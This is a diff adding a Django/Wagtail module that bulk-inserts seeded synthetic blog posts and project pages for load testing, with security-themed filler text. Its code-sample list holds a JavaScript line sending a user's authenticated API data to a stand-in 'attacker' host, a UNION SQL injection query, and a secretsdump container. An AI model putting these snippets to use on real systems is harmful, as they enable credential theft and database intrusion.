@@ -0,0 +1,328 @@
+"""
+Synthetic content for benchmarks and load tests.
+
+ContentGenerator creates BlogPages/ProjectPages in bulk instead of one
+add_child() at a time:
+  - treebeard paths are computed up front (parent path + next free step) and
+    the wagtailcore_page rows are inserted with one bulk_create per batch,
+  - the BlogPage/ProjectPage rows follow with save_base(raw=True), which
+    skips Page.save()'s per-page tree and validation queries,
+  - tags, tech links, search index entries and one live Revision per page
+    are written in bulk per batch.
+Everything is seeded from one random.Random(seed), so the same seed gives the
+same titles, bodies, dates and links.
+"""
+import io
+import random
+from contextlib import contextmanager
+from datetime import timedelta
+
+from django.contrib.contenttypes.models import ContentType
+from django.core.files.images import ImageFile
+from django.db import transaction
+from django.db.models import F
+from django.db.models.signals import post_save
+from django.utils import timezone
+from django.utils.text import slugify
+from taggit.models import Tag
+from wagtail.images import get_image_model
+from wagtail.models import Page, Revision
+from wagtail.search.backends import get_search_backends
+from wagtail.search.signal_handlers import post_save_signal_handler
+
+from .models import (
+    BlogCategory, BlogPage, BlogPageTag, ProjectCategory, ProjectPage, ProjectPageTechStack, TechStack,
+)
+
+DEFAULT_BATCH_SIZE = 500
+
+TOPICS = [
+    "Active Directory", "Kerberoasting", "SSRF", "JWT", "Deserialization", "Prototype Pollution",
+    "SQL Injection", "XXE", "Container Escape", "Privilege Escalation", "Race Conditions",
+    "OAuth", "Subdomain Takeover", "Buffer Overflow", "Log4Shell", "Path Traversal",
+    "Threat Hunting", "Malware Triage", "Phishing Infrastructure", "Cloud IAM",
+]
+TITLE_PATTERNS = [
+    "{topic} in practice", "Hunting for {topic}", "{topic}: a field guide", "Notes on {topic}",
+    "Breaking {topic}", "Detecting {topic} at scale", "{topic} from zero to root", "Why {topic} still works",
+]
+SENTENCES = [
+    "Started with a full **nmap** sweep and a quick look at the exposed services.",
+    "The web root was enumerated with `ffuf` and a trimmed wordlist.",
+    "A forgotten backup job ran as root every five minutes.",
+    "Credentials were reused between the staging and production hosts.",
+    "The patch only fixed the symptom, not the underlying parser bug.",
+    "Logging was enabled, but nobody was alerting on it.",
+    "The service trusted the `X-Forwarded-For` header blindly.",
+    "Rotating the keys took longer than finding the bug.",
+    "A single misconfigured bucket policy exposed the whole dataset.",
+    "Detection came down to one unusual parent-child process pair.",
+]
+BULLETS = [
+    "port 22: OpenSSH 8.9", "port 80: nginx, redirects to the vhost", "port 445: SMB signing disabled",
+    "port 8080: an old Jenkins", "port 5432: PostgreSQL, password auth", "port 6379: Redis without auth",
+]
+CODE_SAMPLES = [
+    ("python", 'import requests\n\nr = requests.get(url, headers={"Authorization": f"Bearer {token}"})\nprint(r.status_code, r.json())\n'),
+    ("bash", "nmap -sC -sV -oA scans/full -p- 10.10.11.42\nffuf -w words.txt -u http://target/FUZZ -mc 200,301\n"),
+    ("sql", "SELECT username, password FROM users WHERE id = 1 UNION SELECT table_name, NULL FROM information_schema.tables;\n"),
+    ("javascript", "fetch('/api/me', {credentials: 'include'})\n  .then(r => r.json())\n  .then(data => navigator.sendBeacon('https://attacker/x', JSON.stringify(data)));\n"),
+    ("yaml", "rules:\n  - id: suspicious-parent\n    condition: parent.name == 'winword.exe' and name == 'powershell.exe'\n"),
+    ("dockerfile", "FROM python:3.11-slim\nRUN pip install --no-cache-dir impacket\nENTRYPOINT [\"secretsdump.py\"]\n"),
+]
+QUOTES = [
+    ("Enumeration is everything.", "ippsec"),
+    ("Security is a process, not a product.", "Bruce Schneier"),
+    ("Amateurs hack systems, professionals hack people.", "Bruce Schneier"),
+    ("If you know the enemy and know yourself, you need not fear the result of a hundred battles.", "Sun Tzu"),
+]
+TAGS = [
+    "htb", "ctf", "web", "active-directory", "linux", "windows", "privesc", "recon", "osint", "forensics",
+    "malware", "cloud", "aws", "kubernetes", "docker", "blue-team", "red-team", "detection", "python", "writeup",
+]
+BLOG_CATEGORIES = [
+    ("Writeups", "writeups", "📝"), ("Research", "research", "🔬"), ("Tools", "tools", "🧰"),
+    ("Blue Team", "blue-team", "🛡️"), ("Red Team", "red-team", "🗡️"), ("Notes", "notes", "📓"),
+]
+PROJECT_CATEGORIES = [
+    ("Offensive Tools", "offensive-tools", "🗡️"), ("Detection", "detection", "🛡️"), ("Automation", "automation", "⚙️"),
+    ("Infrastructure", "infrastructure", "🏗️"), ("Research", "research", "🔬"), ("Web Apps", "web-apps", "🌐"),
+]
+TECHS = [
+    ("Python", "python", "🐍"), ("Django", "django", "🎸"), ("Go", "go", "🐹"), ("Rust", "rust", "🦀"),
+    ("Docker", "docker", "🐳"), ("Kubernetes", "kubernetes", "☸️"), ("PostgreSQL", "postgresql", "🐘"),
+    ("Redis", "redis", "🟥"), ("Terraform", "terraform", "🏗️"), ("AWS", "aws", "☁️"), ("Bash", "bash", "💻"),
+    ("JavaScript", "javascript", "🟨"), ("Elastic", "elastic", "🔎"), ("Sigma", "sigma", "Σ"), ("Nmap", "nmap", "📡"),
+]
+
+
+@contextmanager
+def _search_auto_update_paused(model):
+    """
+    Per-object search indexing on post_save is ~80% of the insert time –
+    the batch is indexed with add_bulk() afterwards instead
+    """
+    connected = post_save.disconnect(post_save_signal_handler, sender=model)
+    try:
+        yield
+    finally:
+        if connected:
+            post_save.connect(post_save_signal_handler, sender=model)
+
+
+class ContentGenerator:
+    """
+    gen = ContentGenerator(seed=42)
+    gen.blog_posts(blog_index, 5000)
+    gen.projects(project_index, 5000)
+    """
+
+    def __init__(self, seed: int = 0, batch_size: int = DEFAULT_BATCH_SIZE, images: int = 6):
+        self.rng = random.Random(seed)
+        self.batch_size = max(1, batch_size)
+        self.now = timezone.now().replace(microsecond=0)
+        self.image_count = images
+        self._snippets = None
+
+    # ---- snippets / bilder (get_or_create – säkert att köra flera gånger) ----
+
+    def snippets(self) -> dict:
+        if self._snippets is None:
+            self._snippets = {
+                "blog_categories": [
+                    BlogCategory.objects.get_or_create(slug=slug, defaults={"name": name, "icon": icon})[0]
+                    for name, slug, icon in BLOG_CATEGORIES
+                ],
+                "project_categories": [
+                    ProjectCategory.objects.get_or_create(slug=slug, defaults={"name": name, "icon": icon})[0]
+                    for name, slug, icon in PROJECT_CATEGORIES
+                ],
+                "techs": [
+                    TechStack.objects.get_or_create(slug=slug, defaults={"name": name, "icon": icon})[0]
+                    for name, slug, icon in TECHS
+                ],
+                "tags": [Tag.objects.get_or_create(slug=slug, defaults={"name": slug})[0] for slug in TAGS],
+                "images": [self._image(i) for i in range(self.image_count)],
+            }
+        return self._snippets
+
+    def _image(self, index: int):
+        from PIL import Image as PILImage
+
+        title = f"Synthetic {index}"
+        Image = get_image_model()
+        existing = Image.objects.filter(title=title).first()
+        if existing:
+            return existing
+        color = tuple(random.Random(index).randrange(20, 120) for _ in range(3))
+        buffer = io.BytesIO()
+        PILImage.new("RGB", (1600, 900), color).save(buffer, "PNG")
+        buffer.seek(0)
+        return Image.objects.create(title=title, file=ImageFile(buffer, name=f"synthetic-{index}.png"))
+
+    # ---- innehåll ----
+
+    def _title(self) -> str:
+        return self.rng.choice(TITLE_PATTERNS).format(topic=self.rng.choice(TOPICS))
+
+    def _markdown(self) -> str:
+        rng = self.rng
+        lines = [f"## {rng.choice(['Recon', 'Foothold', 'Privesc', 'Detection', 'Takeaways', 'Background'])}", ""]
+        lines.append(" ".join(rng.sample(SENTENCES, rng.randint(2, 4))))
+        lines.append("")
+        lines.extend(f"- {item}" for item in rng.sample(BULLETS, rng.randint(2, 4)))
+        lines.append("")
+        lines.append(" ".join(rng.sample(SENTENCES, rng.randint(1, 3))))
+        return "\n".join(lines)
+
+    def body(self, blocks: int) -> list:
+        rng = self.rng
+        images = self.snippets()["images"]
+        body = [("markdown", self._markdown())]
+        for _ in range(blocks - 1):
+            kind = rng.choices(["markdown", "heading", "code", "image", "quote"], weights=[5, 2, 3, 1, 1])[0]
+            if kind == "markdown":
+                value = self._markdown()
+            elif kind == "heading":
+                value = rng.choice(TOPICS)
+            elif kind == "code":
+                language, code = rng.choice(CODE_SAMPLES)
+                value = {"language": language, "code": code}
+            elif kind == "image" and images:
+                value = {"image": rng.choice(images), "caption": rng.choice(SENTENCES)[:80], "attribution": ""}
+            else:
+                kind = "quote"
+                quote, author = rng.choice(QUOTES)
+                value = {"quote": quote, "author": author}
+            body.append((kind, value))
+        return body
+
+    def _published_at(self):
+        # Spritt över ~3 år så listningar/sortering ser verkliga ut
+        return self.now - timedelta(minutes=self.rng.randint(0, 3 * 365 * 24 * 60))
+
+    def _new_post(self) -> BlogPage:
+        rng = self.rng
+        snippets = self.snippets()
+        published = self._published_at()
+        body = self.body(rng.randint(4, 12))
+        words = sum(len(value.split()) for kind, value in body if kind == "markdown")
+        post = BlogPage(
+            title=self._title(),
+            date=published.date(),
+            first_published_at=published,
+            last_published_at=published,
+            intro=" ".join(rng.sample(SENTENCES, 2))[:250],
+            categories=rng.choice(snippets["blog_categories"]),
+            body=body,
+            reading_time=max(1, round(words / 200)),
+        )
+        post.tagged_items = [BlogPageTag(tag=tag) for tag in rng.sample(snippets["tags"], rng.randint(1, 4))]
+        return post
+
+    def _new_project(self) -> ProjectPage:
+        rng = self.rng
+        snippets = self.snippets()
+        published = self._published_at()
+        techs = rng.sample(snippets["techs"], rng.randint(1, 5))
+        project = ProjectPage(
+            title=self._title(),
+            date=published.date(),
+            first_published_at=published,
+            last_published_at=published,
+            intro=" ".join(rng.sample(SENTENCES, 2))[:250],
+            category=rng.choice(snippets["project_categories"]),
+            status=rng.choice([value for value, _label in ProjectPage.STATUS_CHOICES]),
+            hero_image=rng.choice(snippets["images"]) if snippets["images"] and rng.random() < 0.8 else None,
+            github_url="https://github.com/example/" + slugify(rng.choice(TOPICS)),
+            body=self.body(rng.randint(3, 8)),
+            problem=f"<p>{rng.choice(SENTENCES)}</p>",
+            solution=f"<p>{rng.choice(SENTENCES)}</p>",
+            duration=rng.choice(["2 weeks", "1 month", "3 months", "ongoing"]),
+            tech_slugs=sorted(tech.slug for tech in techs),
+        )
+        project.tech_stack_items = [
+            ProjectPageTechStack(tech=tech, is_primary=i == 0, sort_order=i) for i, tech in enumerate(techs)
+        ]
+        return project
+
+    def blog_posts(self, parent: Page, count: int) -> int:
+        return self._generate(parent, count, self._new_post)
+
+    def projects(self, parent: Page, count: int) -> int:
+        return self._generate(parent, count, self._new_project)
+
+    # ---- bulk-insättning i trädet ----
+
+    def _generate(self, parent: Page, count: int, factory) -> int:
+        created = 0
+        while created < count:
+            size = min(self.batch_size, count - created)
+            self._insert_batch(parent, [factory() for _ in range(size)])
+            created += size
+        return created
+
+    @transaction.atomic
+    def _insert_batch(self, parent: Page, pages: list) -> None:
+        parent = Page.objects.select_for_update().get(pk=parent.pk)
+        last_child = parent.get_last_child()
+        step = Page._str2int(last_child.path[-Page.steplen:]) if last_child else 0
+
+        model = type(pages[0])
+        content_type = ContentType.objects.get_for_model(model)
+        page_content_type = ContentType.objects.get_for_model(Page)
+        page_fields = [f.attname for f in Page._meta.concrete_fields if not f.primary_key]
+
+        for page in pages:
+            step += 1
+            page.slug = f"{slugify(page.title)[:50]}-{step}"
+            page.draft_title = page.title
+            page.path = Page._get_path(parent.path, parent.depth + 1, step)
+            page.depth = parent.depth + 1
+            page.url_path = f"{parent.url_path}{page.slug}/"
+            page.content_type = content_type
+            page.locale_id = parent.locale_id
+            page.live = True
+            page.has_unpublished_changes = False
+
+        # 1) wagtailcore_page i en INSERT per batch
+        rows = Page.objects.bulk_create([Page(**{name: getattr(page, name) for name in page_fields}) for page in pages])
+        for page, row in zip(pages, rows):
+            page.id = page.page_ptr_id = row.pk
+
+        # 2) Subklassens egen tabell – raw hoppar över Page.save() (tree/url_path/validering)
+        with _search_auto_update_paused(model):
+            for page in pages:
+                page.save_base(raw=True, force_insert=True)
+
+        # 3) Barnrelationer
+        BlogPageTag.objects.bulk_create([
+            BlogPageTag(tag_id=item.tag_id, content_object_id=page.pk)
+            for page in pages if isinstance(page, BlogPage) for item in page.tagged_items.all()
+        ])
+        ProjectPageTechStack.objects.bulk_create([
+            ProjectPageTechStack(tech_id=item.tech_id, page_id=page.pk, is_primary=item.is_primary, sort_order=item.sort_order)
+            for page in pages if isinstance(page, ProjectPage) for item in page.tech_stack_items.all()
+        ])
+
+        # 4) En publicerad revision per sida, som om den skapats i admin
+        revisions = Revision.objects.bulk_create([
+            Revision(
+                content_type=content_type,
+                base_content_type=page_content_type,
+                object_id=str(page.pk),
+                created_at=page.first_published_at,
+                object_str=page.title,
+                content=page.serializable_data(),
+            )
+            for page in pages
+        ])
+        updated = []
+        for page, revision in zip(pages, revisions):
+            updated.append(Page(pk=page.pk, latest_revision_id=revision.pk, live_revision_id=revision.pk))
+        Page.objects.bulk_update(updated, ["latest_revision", "live_revision"])
+
+        Page.objects.filter(pk=parent.pk).update(numchild=F("numchild") + len(pages))
+
+        for backend in get_search_backends(with_auto_update=True):
+            backend.add_bulk(model, pages)